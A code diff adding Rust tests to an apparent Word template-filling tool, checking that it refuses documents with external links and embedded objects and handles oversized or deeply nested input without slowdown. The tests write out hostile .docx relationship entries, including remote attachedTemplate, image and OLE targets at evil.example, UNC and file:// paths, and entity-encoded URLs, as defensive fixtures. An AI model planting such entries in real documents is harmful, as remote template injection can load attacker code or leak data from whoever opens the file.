@@ -134,3 +134,52 @@ fn our_own_paper_is_a_template_like_any_other() {
     let bytes = super::super::docx(&doc).unwrap();
     assert_eq!(checked(&bytes, &["单位", "正文"]).unwrap().names, ["单位", "正文"]);
 }
+
+#[test]
+fn links_and_embedded_files_are_refused_however_written() {
+    const KIND: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    let good = p(&["{{单位}}"]);
+    let with = |line: &str| {
+        let rels = format!("<Relationships>{line}</Relationships>");
+        refused(&word(&good, &[("word/_rels/settings.xml.rels", rels.as_bytes())]))
+    };
+    for target in
+        ["http://evil.example/t.dotm", "\\\\evil\\s\\t.dotm", "file://evil/t.dotm", "&#104;ttp://evil.example/t"]
+    {
+        for quote in ["'", "\""] {
+            let line = format!(
+                "<Relationship\nType={quote}{KIND}/attachedTemplate{quote} Target = {quote}{target}{quote} TargetMode={quote}External{quote}/>"
+            );
+            assert!(with(&line).contains("网上的模板"), "{line}");
+        }
+    }
+    let image = format!("<Relationship Type='{KIND}/image' Target='http://evil.example/a.png' TargetMode='External'/>");
+    assert!(with(&image).contains("图片"));
+    let ole = format!("<Relationship Type='{KIND}/oleObject' Target='http://evil.example/a' TargetMode='External'/>");
+    assert!(with(&ole).contains("嵌入了"));
+    assert!(refused(&word(&good, &[("word/embeddings/oleObject1.bin", b"x")])).contains("嵌入了"));
+}
+
+#[test]
+fn hostile_text_takes_no_longer_than_ordinary_text() {
+    let begun = std::time::Instant::now();
+    let open = format!("{{{{单位}}}}{}", "{{a".repeat(100_000));
+    assert!(refused(&word(&p(&[&open]), &[])).contains("字段没有写完整"));
+    let wide = format!("{{{{单位}}}}{}", "｛｛a".repeat(100_000));
+    assert!(refused(&word(&p(&[&wide]), &[])).contains("字段没有写完整"));
+    let nested = |n: usize| format!("{}{}{}", "<w:p>".repeat(n), p(&["{{单位}}"]), "</w:p>".repeat(n));
+    assert!(refused(&word(&nested(40_000), &[])).contains("损坏"));
+    assert!(checked(&word(&nested(4), &[]), &["单位"]).is_ok());
+    let deep = format!("{}{}{}", "<w:sdt>".repeat(40_000), p(&["{{单位}}"]), "</w:sdt>".repeat(40_000));
+    assert!(refused(&word(&deep, &[])).contains("损坏"));
+    let names = (0..50_000).map(|n| format!("{{{{x{n}}}}}")).collect::<Vec<_>>().concat();
+    let words = refused(&word(&p(&[&names]), &[]));
+    assert!(words.contains("{{x0}}") && words.len() < 1_000, "{words}");
+    // Many runs with many fields are filled in one go.
+    let runs = vec!["{{单位}}"; 20_000];
+    let many = word(&p(&runs), &[]);
+    let out = filled(&many, &vec![("单位", "甲".into())]).unwrap();
+    assert_eq!(part(&out, "word/document.xml").matches(">甲<").count(), 20_000);
+    // Quadratic ways took minutes of each.
+    assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
+}
